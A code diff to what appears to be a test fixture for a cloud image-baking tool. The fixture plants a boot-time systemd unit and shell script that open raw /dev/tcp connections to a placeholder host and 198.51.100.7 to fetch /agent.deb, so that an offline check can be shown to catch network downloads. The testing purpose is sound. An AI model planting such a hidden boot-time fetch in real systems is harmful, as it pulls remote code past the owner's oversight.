@@ -19,18 +19,22 @@ _CONF = "etc/waagent.conf"
 _UNITS = "etc/systemd/system"
 _OURS = ("opt/imagebake", "etc/cloud/cloud.cfg.d/90-imagebake.cfg")
 _STATE = "var/lib/waagent"
-_PLANTED_UNIT = f"""[Unit]
+_PLANTED_SCRIPT = "etc/imagebake-planted.sh"
+_PLANTED_LINES = f"""\
+for there in {PLANTED_HOST} 198.51.100.7; do
+    exec 3<>"/dev/tcp/$there/80" &&
+        printf 'GET /agent.deb HTTP/1.1\\r\\nHost: %s\\r\\n\\r\\n' "$there" >&3 && cat <&3
+done
+"""
+_PLANTED_UNIT = f"""\
+[Unit]
 Description=A download that the offline proof must notice
 Wants=network-online.target
 After=network-online.target
 [Service]
 Type=oneshot
-ExecStart=/bin/bash -c 'for there in {PLANTED_HOST} 198.51.100.7; do \\
- exec 3<>/dev/tcp/$there/80 && printf "GET /agent.deb HTTP/1.1\\\\r\\\\nHost: $there\\\\r\\\\n\\\\r\\\\n" >&3; \\
- done; true'
+ExecStart=-/bin/bash /{_PLANTED_SCRIPT}
 TimeoutStartSec=10
-[Install]
-WantedBy=multi-user.target
 """
 
 
@@ -64,6 +68,7 @@ def plant(root: Path) -> None:
     units = _inside(root, _UNITS)
     wants = units / "multi-user.target.wants"
     wants.mkdir(parents=True, exist_ok=True)
+    _inside(root, _PLANTED_SCRIPT).write_text(_PLANTED_LINES, encoding="ascii")
     (units / PLANTED).write_text(_PLANTED_UNIT, encoding="ascii")
     with contextlib.suppress(FileExistsError):
         (wants / PLANTED).symlink_to(f"../{PLANTED}")
